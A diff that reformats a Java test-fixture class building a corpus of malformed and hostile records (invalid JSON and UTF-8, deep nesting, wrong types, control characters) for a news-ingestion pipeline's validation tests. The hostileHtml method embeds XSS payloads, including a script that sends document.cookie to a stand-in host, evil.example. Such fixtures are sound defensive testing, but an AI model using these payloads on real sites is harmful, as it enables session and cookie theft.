@@ -4,7 +4,6 @@ import io.newsroute.common.model.Article;
 import io.newsroute.common.model.CountryCodes;
 import io.newsroute.common.serde.JsonSerde;
 import io.newsroute.producer.generate.ArticleGenerator;
-
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
@@ -23,8 +22,7 @@ import java.util.Random;
 final class HostileCorpus {
 
     /** One raw record: its key, its value bytes, whether it must be dead-lettered, and what kind it is. */
-    record Item(String key, byte[] value, boolean bad, String kind) {
-    }
+    record Item(String key, byte[] value, boolean bad, String kind) {}
 
     private static final JsonSerde<Article> SERDE = JsonSerde.of(Article.class);
     private final Random random;
@@ -50,10 +48,21 @@ final class HostileCorpus {
             scriptOnlyHtml(i);
         }
         for (int i = 0; i < 3; i++) {
-            bad("too-large-" + i, json(article("too-large-" + i, "word ".repeat(articleMaxBytes / 5 + 1000))), "larger than article.max.bytes");
+            bad(
+                    "too-large-" + i,
+                    json(article("too-large-" + i, "word ".repeat(articleMaxBytes / 5 + 1000))),
+                    "larger than article.max.bytes");
             good("html-" + i, json(article("html-" + i, hostileHtml(i))), "html with scripts around text");
-            good("controls-" + i, json(article("controls-" + i, "PARIS - Talks\u0000 in \u001b[2J\u001b[31mFrance\u0007 went on.\r\nMore\u0085 text.")), "control characters in text");
-            good("long-word-" + i, json(article("long-word-" + i, "TOKYO - " + "x".repeat(100_000) + " Japan and its economy.")), "a 100,000-character word");
+            good(
+                    "controls-" + i,
+                    json(article(
+                            "controls-" + i,
+                            "PARIS - Talks\u0000 in \u001b[2J\u001b[31mFrance\u0007 went on.\r\nMore\u0085 text.")),
+                    "control characters in text");
+            good(
+                    "long-word-" + i,
+                    json(article("long-word-" + i, "TOKYO - " + "x".repeat(100_000) + " Japan and its economy.")),
+                    "a 100,000-character word");
         }
         good("every-country", json(article("every-country", everyCountry(100))), "every country named 100 times");
         return items;
@@ -69,7 +78,17 @@ final class HostileCorpus {
 
     private Article article(String id, String body) {
         Article a = generator.next(id);
-        return new Article(id, a.url(), a.source(), a.title(), a.subtitle(), a.authors(), a.published(), a.language(), body, Instant.EPOCH);
+        return new Article(
+                id,
+                a.url(),
+                a.source(),
+                a.title(),
+                a.subtitle(),
+                a.authors(),
+                a.published(),
+                a.language(),
+                body,
+                Instant.EPOCH);
     }
 
     private static byte[] json(Article a) {
@@ -87,9 +106,19 @@ final class HostileCorpus {
 
     private void invalidJson(int i) {
         String[] forms = {
-            "{\"id\": \"x\", \"body\": \"y\",}", "{'id': 'x', 'body': 'y'}", "{\"id\" \"x\"}", "not json at all",
-            "{\"id\": \"x\", \"body\": \"y\"} trailing", "}{", "{\"body\": \"unterminated}", "{\"id\": x, \"body\": y}",
-            "{\"id\": \"x\", \"body\": \"y\"}{\"id\": \"z\"}", "[1, 2,", "{\"body\": \"a\" \"b\"}", "NaN", "{\"id\": \"\\uZZZZ\"}",
+            "{\"id\": \"x\", \"body\": \"y\",}",
+            "{'id': 'x', 'body': 'y'}",
+            "{\"id\" \"x\"}",
+            "not json at all",
+            "{\"id\": \"x\", \"body\": \"y\"} trailing",
+            "}{",
+            "{\"body\": \"unterminated}",
+            "{\"id\": x, \"body\": y}",
+            "{\"id\": \"x\", \"body\": \"y\"}{\"id\": \"z\"}",
+            "[1, 2,",
+            "{\"body\": \"a\" \"b\"}",
+            "NaN",
+            "{\"id\": \"\\uZZZZ\"}",
         };
         bad("invalid-json-" + i, utf8(forms[i % forms.length] + " ".repeat(i % 3)), "invalid JSON");
     }
@@ -102,8 +131,15 @@ final class HostileCorpus {
     }
 
     private void invalidUtf8(int i) {
-        byte[][] sequences = {{(byte) 0xFF}, {(byte) 0xFE, (byte) 0xFF}, {(byte) 0x80}, {(byte) 0xC3, (byte) 0x28},
-            {(byte) 0xE2, (byte) 0x82}, {(byte) 0xF0, (byte) 0x9F, (byte) 0x98}, {(byte) 0xBF, (byte) 0xBF}};
+        byte[][] sequences = {
+            {(byte) 0xFF},
+            {(byte) 0xFE, (byte) 0xFF},
+            {(byte) 0x80},
+            {(byte) 0xC3, (byte) 0x28},
+            {(byte) 0xE2, (byte) 0x82},
+            {(byte) 0xF0, (byte) 0x9F, (byte) 0x98},
+            {(byte) 0xBF, (byte) 0xBF}
+        };
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         out.writeBytes(utf8("{\"id\": \"utf8-" + i + "\", \"title\": \"t\", \"body\": \"Tokyo "));
         out.writeBytes(sequences[i % sequences.length]);
@@ -126,15 +162,26 @@ final class HostileCorpus {
         String open = i % 2 == 0 ? "[" : "{\"a\":";
         String close = i % 2 == 0 ? "]" : "}";
         String nested = open.repeat(depth) + "1" + close.repeat(depth);
-        bad("nested-" + i, utf8("{\"id\": \"nested-" + i + "\", \"body\": \"Paris\", \"extra\": " + nested + "}"), "deeply nested JSON");
+        bad(
+                "nested-" + i,
+                utf8("{\"id\": \"nested-" + i + "\", \"body\": \"Paris\", \"extra\": " + nested + "}"),
+                "deeply nested JSON");
     }
 
     private void wrongTypes(int i) {
         String[] forms = {
-            "{\"id\": \"w\", \"body\": {\"text\": \"Paris\"}}", "{\"id\": \"w\", \"body\": [\"Paris\"]}",
-            "{\"id\": {\"x\": 1}, \"body\": \"Paris\"}", "{\"id\": \"w\", \"body\": \"Paris\", \"authors\": {\"a\": 1}}",
-            "{\"id\": \"w\", \"body\": \"Paris\", \"ingestedAt\": \"yesterday\"}", "[{\"id\": \"w\", \"body\": \"Paris\"}]",
-            "42", "\"just a string\"", "true", "null", "{\"id\": \"w\", \"body\": null}", "{\"id\": \"w\"}",
+            "{\"id\": \"w\", \"body\": {\"text\": \"Paris\"}}",
+            "{\"id\": \"w\", \"body\": [\"Paris\"]}",
+            "{\"id\": {\"x\": 1}, \"body\": \"Paris\"}",
+            "{\"id\": \"w\", \"body\": \"Paris\", \"authors\": {\"a\": 1}}",
+            "{\"id\": \"w\", \"body\": \"Paris\", \"ingestedAt\": \"yesterday\"}",
+            "[{\"id\": \"w\", \"body\": \"Paris\"}]",
+            "42",
+            "\"just a string\"",
+            "true",
+            "null",
+            "{\"id\": \"w\", \"body\": null}",
+            "{\"id\": \"w\"}",
         };
         bad("wrong-type-" + i, utf8(forms[i % forms.length]), "wrong types");
     }
@@ -158,7 +205,8 @@ final class HostileCorpus {
     private static String hostileHtml(int i) {
         return "<html><head><title>x</title><script>document.location='http://evil.example/'+document.cookie</script></head>"
                 + "<body onload=\"alert(1)\"><p>PARIS - France and Germany agreed on Tuesday to expand trade.</p>"
-                + "<iframe src=\"javascript:alert('" + i + "')\"></iframe><a href=\"javascript:void(0)\" onclick=\"steal()\">Read more</a>"
+                + "<iframe src=\"javascript:alert('" + i
+                + "')\"></iframe><a href=\"javascript:void(0)\" onclick=\"steal()\">Read more</a>"
                 + "<img src=x onerror=alert(1)><SCRIPT type=\"text/javascript\">var a = '</p>';</SCRIPT>"
                 + "<div onmouseover='x()'>Berlin said the deal would take effect next year.</div></body></html>";
     }
